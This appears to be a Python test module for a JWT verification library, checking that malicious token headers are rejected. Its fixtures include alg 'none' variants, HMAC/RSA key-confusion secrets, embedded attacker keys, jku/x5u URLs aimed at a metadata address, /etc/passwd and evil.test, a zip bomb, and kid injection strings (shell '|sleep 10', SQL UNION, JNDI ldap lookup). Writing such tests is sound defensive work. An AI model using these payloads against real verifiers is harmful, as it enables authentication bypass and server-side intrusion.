"""B: what a token's header claims, and who signed it."""

from __future__ import annotations

import hmac
import json
from typing import Any, Final

from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from jwcrypto.jwe import JWE
from jwcrypto.jwk import JWK

from authz.core import base64url
from authz.core.reasons import Reason
from tests.cases.case import case, cases
from tests.fixtures import (
    A_EC,
    A_RSA,
    ABSENT,
    CLAIMS,
    changed,
    issuer_a,
    key_set,
    make_snapshot,
    mint,
    signer,
    unsigned,
)

ATTACKER: Final = signer("RS256", "attacker")
MALFORMED, INVALID, ALG, CRIT = (
    Reason.TOKEN_MALFORMED,
    Reason.HEADER_INVALID,
    Reason.ALG_NOT_ALLOWED,
    Reason.CRIT_UNSUPPORTED,
)
C: Final = make_snapshot(a=issuer_a(["HS256", "RS256"]))
NO_ALG: Final = make_snapshot(a=issuer_a(keys=key_set(changed(A_RSA.public(), {"alg": ABSENT}))))
ACCESS_ONLY: Final = make_snapshot(a=issuer_a(token_types=frozenset({"at+jwt"})))


def mac(secret: bytes, **header: object) -> str:
    """Write a token with good claims and an HS256 MAC under *secret*."""
    text = unsigned({"alg": "HS256", "typ": "at+jwt", **header}, b"x").rpartition(".")[0]
    return f"{text}.{base64url.encode(hmac.digest(secret, text.encode(), 'sha256')).decode()}"


def encrypt(payload: bytes, **header: object) -> str:
    """Encrypt *payload* to A's RSA key, as a compact JWE."""
    protected = json.dumps({"alg": "RSA-OAEP-256", "enc": "A256GCM", "kid": "a-rsa", **header})
    jwe: Any = JWE(payload, protected)
    jwe.add_recipient(JWK(**changed(A_RSA.public(), {"use": ABSENT, "alg": ABSENT})))
    return str(jwe.serialize(compact=True))


PUBLIC: Final[Any] = A_RSA.jwk.get_op_key("verify")
PEM: Final[bytes] = PUBLIC.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
SECRETS: Final = {
    "pem": PEM,
    "pem-of-pkcs-1": PUBLIC.public_bytes(Encoding.PEM, PublicFormat.PKCS1),
    "pem-without-final-newline": PEM.rstrip(b"\n"),
    "pem-with-crlf": PEM.replace(b"\n", b"\r\n"),
    "pem-with-a-leading-space": b" " + PEM,
    "der": PUBLIC.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo),
    "jwk": json.dumps(A_RSA.public()).encode(),
    "jwk-without-spaces": json.dumps(A_RSA.public(), separators=(",", ":")).encode(),
    "modulus": base64url.decode(str(A_RSA.public()["n"]).encode()),
    "openssh": PUBLIC.public_bytes(Encoding.OpenSSH, PublicFormat.OpenSSH),
    "empty-secret": b"",
}
NONES: Final = ["none", "None", "NONE", "nOnE", "none ", " none", "none\0", "ＮＯＮＥ"]
INJECTIONS: Final = {
    "path-kid": "../../../../dev/null",
    "sql-kid": "x' UNION SELECT '1';--",
    "shell-kid": "|sleep 10",
    "log-kid": "a\nlevel=info",
    "format-kid": "%s{0}${jndi:ldap://evil.test}",
    "url-kid": "https://evil.test/jwks.json",
    "kid-with-a-space-behind": "a-rsa ",
    "kid-with-a-nul-behind": "a-rsa\0",
    "longest-kid": "k" * 1024,
}

CASES: Final = [
    *cases("without-signature-B01", MALFORMED, {repr(alg): unsigned({"alg": alg}, b"") for alg in NONES}),
    *cases("with-a-signature-B01", ALG, {repr(alg): unsigned({"alg": alg}, b"x" * 256) for alg in NONES}),
    *cases("on-a-good-signature-B01", ALG, {repr(alg): mint(header={"alg": alg}) for alg in NONES}),
    *cases("as-hmac-key-B02", ALG, {name: mac(secret, kid="a-rsa") for name, secret in SECRETS.items()}),
    *cases(
        "as-hmac-key-where-hmac-is-allowed-B03",
        Reason.KEY_UNUSABLE,
        {name: mac(secret, kid="a-rsa") for name, secret in SECRETS.items()},
        snapshot=C,
    ),
    case("hmac-without-kid-where-hmac-is-allowed-B03", Reason.KEY_NOT_FOUND, mac(PEM), snapshot=C),
    *cases(
        "B05",
        ALG,
        {
            alg: mint(header={"alg": alg})
            for alg in ("RS1", "RS512", "rs256", "RS256 ", "PS256", "RSA1_5", "A256GCM", "dir")
        },
        snapshot=NO_ALG,
    ),
    case("key-without-alg-B05", Reason.AUTHENTICATED, mint(), snapshot=NO_ALG),
    *cases(
        "alg-B06",
        INVALID,
        {
            "missing": mint(header={"alg": ABSENT}),
            "null": mint(header={"alg": None}),
            "number": mint(header={"alg": 256}),
            "list": mint(header={"alg": ["RS256"]}),
            "object": mint(header={"alg": {"a": 1}}),
            "empty": mint(header={"alg": ""}),
            "true": mint(header={"alg": True}),
        },
    ),
    *cases(
        "header-B06",
        INVALID,
        {
            "null": mint(header=b"null"),
            "list": mint(header=b'["RS256"]'),
            "text": mint(header=b'"RS256"'),
            "no-json": mint(header=b"RS256"),
            "twice-the-alg": mint(header=b'{"alg":"RS256","kid":"a-rsa","alg":"none"}'),
            "twice-the-alg-by-escape": mint(header=rb'{"alg":"none","kid":"a-rsa","\u0061lg":"RS256"}'),
            "twice-the-kid": mint(header=b'{"alg":"RS256","kid":"x","kid":"a-rsa"}'),
            "byte-order-mark": mint(header=b'\xef\xbb\xbf{"alg":"RS256","kid":"a-rsa"}'),
            "utf-16": mint(header='{"alg":"RS256","kid":"a-rsa"}'.encode("utf-16")),
            "not-utf-8": mint(header=b'{"alg":"RS256","kid":"\xff"}'),
            "too-deep": mint(header=b'{"alg":"RS256","kid":"a-rsa","x":' + b"[" * 99 + b"]" * 99 + b"}"),
            "nan": mint(header=b'{"alg":"RS256","kid":"a-rsa","x":NaN}'),
        },
    ),
    case("unknown-members-are-ignored-B06", Reason.AUTHENTICATED, mint(header={"foo": {"alg": "none"}, "ALG": "none"})),
    case("critical-extension-B08", CRIT, mint(header={"crit": ["foo"], "foo": 1})),
    *cases(
        "B09",
        CRIT,
        {
            "empty-crit": mint(header={"crit": []}),
            "crit-text": mint(header={"crit": "b64"}),
            "crit-null": mint(header={"crit": None}),
            "crit-of-a-claim": mint(header={"crit": ["exp"], "exp": 1}),
            "crit-of-a-registered-member": mint(header={"crit": ["alg"]}),
            "crit-of-an-absent-member": mint(header={"crit": ["foo"]}),
            "crit-with-duplicates": mint(header={"crit": ["foo", "foo"], "foo": 1}),
            "crit-of-numbers": mint(header={"crit": [1]}),
        },
    ),
    case("unencoded-payload-without-crit-B11", CRIT, mint(header={"b64": False})),
    case("unencoded-payload-with-crit-B11", CRIT, mint(header={"b64": False, "crit": ["b64"]})),
    case(
        "rfc-7797-compact-B11",
        CRIT,
        "eyJhbGciOiJIUzI1NiIsImI2NCI6ZmFsc2UsImNyaXQiOlsiYjY0Il19..A5dxf2s96_n5FLueVuW1Z_vh161FwXZC4YLPff6dmDY",
    ),
    case(
        "embedded-jwk-B12",
        Reason.SIGNATURE_INVALID,
        mint(ATTACKER, header={"kid": "a-rsa", "jwk": ATTACKER.public()}),
    ),
    case("embedded-jwk-under-its-own-kid-B12", Reason.KEY_NOT_FOUND, mint(ATTACKER, header={"jwk": ATTACKER.public()})),
    case("embedded-key-of-the-issuer-B12", Reason.AUTHENTICATED, mint(header={"jwk": A_RSA.public()})),
    *cases(
        "B13",
        Reason.KEY_NOT_FOUND,
        {
            "jku": mint(ATTACKER, header={"jku": "http://169.254.169.254/"}),
            "x5u": mint(ATTACKER, header={"x5u": "http://169.254.169.254/"}),
            "x5c": mint(ATTACKER, header={"x5c": ["AAAA"]}),
            "all-of-them": mint(
                ATTACKER, header={"jku": "file:///etc/passwd", "x5u": "//evil.test", "x5c": [], "x5t": ""}
            ),
        },
    ),
    *cases("B14", Reason.KEY_NOT_FOUND, {name: mint(header={"kid": kid}) for name, kid in INJECTIONS.items()}),
    case("empty-kid-B14", Reason.AUTHENTICATED, mint(header={"kid": ""})),
    *cases(
        "kid-B14",
        INVALID,
        {
            "two-kibibytes-of": mint(header={"kid": "k" * 2048}),
            "number-as": mint(header={"kid": 1}),
            "object-as": mint(header={"kid": {}}),
            "list-as": mint(header={"kid": ["a-rsa"]}),
            "null-as": mint(header={"kid": None}),
            "surrogate-in": mint(header=rb'{"alg":"RS256","kid":"\ud800"}'),
        },
    ),
    *cases(
        "where-access-tokens-are-asked-B15",
        Reason.TYP_NOT_ALLOWED,
        {
            "typ-jwt": mint(header={"typ": "JWT"}),
            "typ-jws": mint(header={"typ": "JWS"}),
            "typ-absent": mint(header={"typ": ABSENT}),
            "typ-empty": mint(header={"typ": ""}),
            "typ-of-another-media": mint(header={"typ": "text/at+jwt"}),
            "typ-with-a-space": mint(header={"typ": "at+jwt "}),
            "typ-dpop": mint(header={"typ": "dpop+jwt"}),
        },
        snapshot=ACCESS_ONLY,
    ),
    *cases(
        "where-access-tokens-are-asked-B15",
        Reason.AUTHENTICATED,
        {
            "typ-access": mint(header={"typ": "at+jwt"}),
            "typ-access-in-upper-case": mint(header={"typ": "AT+JWT"}),
            "typ-access-with-application": mint(header={"typ": "application/at+jwt"}),
            "typ-access-with-application-in-upper-case": mint(header={"typ": "Application/at+jwt"}),
        },
        snapshot=ACCESS_ONLY,
    ),
    *cases(
        "by-default-B15",
        Reason.AUTHENTICATED,
        {"typ-jwt": mint(header={"typ": "JWT"}), "typ-absent": mint(header={"typ": ABSENT})},
    ),
    *cases("typ-B15", INVALID, {"number": mint(header={"typ": 1}), "list": mint(header={"typ": ["JWT"]})}),
    *cases(
        "B16",
        MALFORMED,
        {
            "encrypted-claims": encrypt(json.dumps(CLAIMS).encode()),
            "encrypted-good-token": encrypt(mint().encode(), cty="JWT"),
            "encrypted-plain-token": encrypt(unsigned({"alg": "none"}, b"").encode(), cty="JWT"),
            "zip-bomb": encrypt(b"0" * 200_000, zip="DEF"),
            "endless-pbes2": ".".join(
                [base64url.encode(b'{"alg":"PBES2-HS512+A256KW","enc":"A256GCM","p2c":2147483648,"p2s":"AA"}').decode()]
                + ["AAAA"] * 4
            ),
        },
    ),
    case("encryption-in-three-segments-B16", ALG, unsigned({"alg": "RSA-OAEP-256", "enc": "A256GCM"})),
    case("signature-of-another-key", Reason.SIGNATURE_INVALID, mint(signer("RS256", "a-rsa"))),
    case("signature-of-another-key-of-the-issuer", Reason.KEY_UNUSABLE, mint(A_EC, header={"alg": "RS256"})),
    case("signature-under-another-algorithm", Reason.KEY_UNUSABLE, mint(A_EC, header={"kid": "a-rsa"})),
]
